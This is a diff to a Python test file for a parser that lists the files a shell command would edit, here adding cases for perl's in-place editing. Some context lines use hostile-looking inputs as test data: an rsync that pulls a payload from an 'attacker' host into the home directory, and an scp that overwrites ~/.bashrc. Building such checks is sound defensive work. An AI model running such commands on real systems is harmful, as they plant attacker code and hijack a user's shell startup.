@@ -2247,6 +2247,13 @@ def test_the_files_a_writer_names_are_edit_constraints():
     assert edits("tar -tzf a.tgz; tar -xOf a.tgz x; unzip -l x.zip") == []  # they write none
     assert edits("unzip x.zip -d /etc; unzip y.zip") == ["/etc/\0", "./\0"]
     assert edits("zip -r -P pw out.zip src; gunzip a.gz") == ["out.zip", "a.gz"]
+    # perl -i edits its files in place; its options end at its first operand.
+    assert edits("perl -pi -e 's/a/b/' /etc/hosts; perl -i.bak -pe 1 a b") == [
+        "/etc/hosts",
+        "a",
+        "b",
+    ]
+    assert edits("perl -0777 -I lib -pi -e 1 f; perl -ne 1 g; perl x.pl -i y") == ["f"]
     # rsync's and scp's target, when it is on this machine.
     assert edits("rsync -a attacker:payload/ ~/") == ["~/", "~/\0"]
     assert edits("scp -P 2222 host:evil ~/.bashrc") == ["~/.bashrc"]
